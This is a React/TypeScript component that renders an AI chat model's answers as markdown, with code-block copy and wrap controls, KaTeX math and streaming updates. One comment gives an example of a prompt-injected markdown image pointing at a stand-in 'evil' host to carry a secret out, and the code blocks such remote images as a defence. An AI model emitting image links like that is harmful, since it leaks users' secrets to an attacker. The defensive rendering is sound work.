import { memo, useCallback, useEffect, useLayoutEffect, useMemo, useRef, useState, type ComponentProps } from "react";
import ReactMarkdown, { defaultUrlTransform, type Components, type ExtraProps, type Options, type UrlTransform } from "react-markdown";
import rehypeHighlight from "rehype-highlight";
import remarkGfm from "remark-gfm";
import { copyText } from "../lib/clipboard.js";
import { rehypeCaret } from "./caret.js";
import { Icon } from "./Icon.js";
import { markdownBlocks } from "./markdown-blocks.js";
import { mightHaveMath, normalizeMath } from "./math-text.js";

type HastNode = NonNullable<ExtraProps["node"]>;
type HastChild = HastNode["children"][number];

/** The plain text of a hast subtree: what the copy button copies (highlighting adds spans around it). */
function textOf(node: HastNode | HastChild): string {
  if (node.type === "text") return node.value;
  if ("children" in node) return node.children.map(textOf).join("");
  return "";
}

function languageOf(node: HastNode | undefined): string | null {
  const code = node?.children.find((c): c is HastNode => c.type === "element" && c.tagName === "code");
  const classes = code?.properties.className;
  if (!Array.isArray(classes)) return null;
  const language = classes.map(String).find((c) => c.startsWith("language-"));
  return language ? language.slice("language-".length) : null;
}

/**
 * Whether a scroller has more to show to its right. A long code line on a phone is otherwise cut at the
 * block's edge with nothing saying it scrolls (touch browsers hide scrollbars): the block shows a fade there.
 */
function useMoreToTheRight() {
  const ref = useRef<HTMLPreElement>(null);
  const [more, setMore] = useState(false);
  const measure = useCallback(() => {
    const el = ref.current;
    if (el) setMore(el.scrollLeft + el.clientWidth < el.scrollWidth - 1);
  }, []);
  // After every render: streamed text can make a line longer without the block changing size.
  useLayoutEffect(measure);
  useLayoutEffect(() => {
    const el = ref.current;
    if (!el || typeof ResizeObserver === "undefined") return;
    const observer = new ResizeObserver(measure);
    observer.observe(el);
    return () => observer.disconnect();
  }, [measure]);
  return { ref, more, measure };
}

function CodeBlock({ node, children, ...props }: ComponentProps<"pre"> & ExtraProps) {
  const [copied, setCopied] = useState<"idle" | "copied" | "failed">("idle");
  const [wrap, setWrap] = useState(false);
  const { ref, more, measure } = useMoreToTheRight();
  const language = languageOf(node);
  const onCopy = async () => {
    // Denied (insecure context, permissions): say so; the code stays selectable.
    const ok = await copyText(node ? textOf(node).replace(/\n$/, "") : "");
    setCopied(ok ? "copied" : "failed");
    setTimeout(() => setCopied("idle"), 1500);
  };
  return (
    <div className="code-block">
      <div className="code-block__bar">
        <span className="code-block__lang">{language ?? "code"}</span>
        <span className="code-block__actions">
          {(more || wrap) && (
            <button
              type="button"
              className="button button--ghost button--small"
              aria-pressed={wrap}
              aria-label="Wrap lines"
              title={wrap ? "Scroll long lines instead" : "Wrap long lines"}
              onClick={() => setWrap((w) => !w)}
            >
              <Icon name="wrap" size={14} />
              Wrap
            </button>
          )}
          <button type="button" className="button button--ghost button--small" onClick={onCopy} aria-label="Copy code">
            <Icon name={copied === "copied" ? "check" : "copy"} size={14} />
            {copied === "copied" ? "Copied" : copied === "failed" ? "Copy failed" : "Copy"}
          </button>
          {/* The button's label stays "Copy code", so its "Copied" is not heard: a screen reader hears the outcome here. */}
          <span className="visually-hidden" role="status">
            {copied === "copied" ? "Code copied" : copied === "failed" ? "Copy failed" : ""}
          </span>
        </span>
      </div>
      <div className="code-block__body" data-more={more && !wrap ? "right" : undefined}>
        <pre {...props} ref={ref} onScroll={measure} data-wrap={wrap || undefined} tabIndex={more ? 0 : undefined}>
          {children}
        </pre>
      </div>
    </div>
  );
}

function Link({ node: _node, children, ...props }: ComponentProps<"a"> & ExtraProps) {
  return (
    <a {...props} target="_blank" rel="noopener noreferrer nofollow">
      {children}
    </a>
  );
}

/** Inline images the browser may load: raster `data:` URLs (no request at all). SVG is left out on purpose. */
const dataImage = /^data:image\/(?:png|gif|jpe?g|webp|avif|bmp);/i;

/**
 * Loading an image is a request the user never asked for: a prompt-injected `![](https://evil/?q=secret)`
 * would send the secret the moment the answer renders (the CSP blocks it in production, but not on the Vite
 * dev server or behind a proxy that drops headers). Only same-origin and `data:` images load.
 */
export function imageLoads(src: string, origin = window.location.origin): boolean {
  if (dataImage.test(src)) return true;
  try {
    return new URL(src, `${origin}/`).origin === origin;
  } catch {
    return false;
  }
}

/** Other images become a plain link that says what it is and shows where it points; nothing loads. */
function Image({ node: _node, src, alt, title }: ComponentProps<"img"> & ExtraProps) {
  const url = typeof src === "string" ? src : "";
  if (url === "") return alt ? <span className="markdown__image-blocked">{alt}</span> : null;
  if (imageLoads(url)) return <img src={url} alt={alt ?? ""} title={title} loading="lazy" />;
  return (
    <span className="markdown__image-blocked" data-testid="blocked-image">
      <a href={url} target="_blank" rel="noopener noreferrer nofollow" title={title ?? "Remote image, not loaded"}>
        {alt ? `Image: ${alt}` : "Image"}
      </a>{" "}
      <span className="markdown__image-url">({url})</span>
    </span>
  );
}

/** The default transform (no `javascript:` and friends), plus raster `data:` URLs for images only. */
const urlTransform: UrlTransform = (url, key, node) =>
  key === "src" && node.tagName === "img" && dataImage.test(url) ? url : defaultUrlTransform(url);

const components: Components = { pre: CodeBlock, a: Link, img: Image };
type Plugins = NonNullable<Options["remarkPlugins"]>;
type MathModule = typeof import("./math-plugins.js");

const hasClass = (node: HastNode | HastChild | undefined, name: string): boolean =>
  node?.type === "element" && Array.isArray(node.properties.className) && node.properties.className.includes(name);

/**
 * Components that set math (remark-math's `code.math-inline`, and `pre > code.language-math` for display math and
 * ` ```math ` blocks) with KaTeX. Its HTML is KaTeX's own (no links, classes or ids from the TeX: math-plugins.ts), set
 * once per formula: a formula that does not change between two streamed frames is not touched.
 */
function mathComponents(math: MathModule): Components {
  const Formula = memo(function Formula({ tex, display }: { tex: string; display: boolean }) {
    const Tag = display ? "div" : "span";
    return <Tag className={display ? "math-display" : "math-inline"} dangerouslySetInnerHTML={{ __html: math.renderTex(tex, display) }} />;
  });
  return {
    ...components,
    pre(props) {
      const code = props.node?.children.find((c) => c.type === "element" && c.tagName === "code");
      if (!hasClass(code, "language-math")) return <CodeBlock {...props} />;
      return <Formula tex={textOf(code!).replace(/\n$/, "")} display />;
    },
    code({ node, ...props }) {
      if (!hasClass(node, "math-inline")) return <code {...props} />;
      return <Formula tex={textOf(node!)} display={false} />;
    },
  };
}

/** The markdown stack with or without math, streaming or not: built once each, so every render passes the same lists. */
function pluginsOf(math: MathModule | null) {
  // Only fenced blocks with a language are highlighted; guessing costs time on every streamed frame. Math is not
  // code to highlight. The caret goes in last, after highlighting has split code into spans.
  const rehype: Plugins = [[rehypeHighlight, { plainText: ["math"] }]];
  return {
    remark: [remarkGfm, ...(math?.mathRemarkPlugins ?? [])] as Plugins,
    rehype,
    streamingRehype: [...rehype, rehypeCaret] as Plugins,
    components: math ? mathComponents(math) : components,
  };
}
const plainPlugins = pluginsOf(null);
let mathPlugins: ReturnType<typeof pluginsOf> | null = null;
let mathLoading: Promise<ReturnType<typeof pluginsOf>> | null = null;

function loadMath(): Promise<ReturnType<typeof pluginsOf>> {
  mathLoading ??= import("./math-plugins.js").then(
    (math) => (mathPlugins = pluginsOf(math)),
    (error: unknown) => {
      // The chunk did not load (offline, a deploy replaced it): the next answer with math tries again.
      mathLoading = null;
      throw error;
    },
  );
  return mathLoading;
}

/** The math plugins once loaded, for a text that may hold math; null (plain markdown) until then and otherwise. */
function useMathPlugins(wanted: boolean) {
  const [loaded, setLoaded] = useState(mathPlugins);
  useEffect(() => {
    if (!wanted || loaded !== null) return;
    let live = true;
    loadMath().then(
      (plugins) => live && setLoaded(plugins),
      // Shown as plain markdown, as before the math renderer existed: nothing else to do about it here.
      () => undefined,
    );
    return () => {
      live = false;
    };
  }, [wanted, loaded]);
  return wanted ? (loaded ?? mathPlugins) : null;
}

/**
 * Model output as markdown. Raw HTML is not rendered (no rehype-raw: it shows as text), unsafe URLs such as
 * `javascript:` are dropped, and only same-origin or `data:` images load (others show as links).
 * TeX math (`$…$`, `$$…$$`, `\(…\)`, `\[…\]`, ` ```math `) is rendered with KaTeX, loaded with the first answer
 * that may hold some; until it is there, the text shows as written.
 * While `streaming`, a caret blinks at the end of the last line, and only the last block is rendered again as text
 * arrives (markdown-blocks.ts).
 */
export const Markdown = memo(function Markdown({ text, streaming = false }: { text: string; streaming?: boolean }) {
  const math = useMathPlugins(mightHaveMath(text));
  const plugins = math ?? plainPlugins;
  const blocks = useMemo(() => markdownBlocks(math ? normalizeMath(text) : text), [math, text]);
  return (
    <div className="markdown">
      {blocks.map((block, i) => (
        // By position: while an answer streams, its blocks only ever grow at the end.
        <MarkdownBlock key={i} text={block} streaming={streaming && i === blocks.length - 1} plugins={plugins} />
      ))}
    </div>
  );
});

/** One block of an answer (markdown-blocks.ts), rendered again only when its own text changes. */
const MarkdownBlock = memo(function MarkdownBlock({
  text,
  streaming,
  plugins,
}: {
  text: string;
  streaming: boolean;
  plugins: ReturnType<typeof pluginsOf>;
}) {
  return (
    <ReactMarkdown
      remarkPlugins={plugins.remark}
      rehypePlugins={streaming ? plugins.streamingRehype : plugins.rehype}
      components={plugins.components}
      urlTransform={urlTransform}
    >
      {text}
    </ReactMarkdown>
  );
});
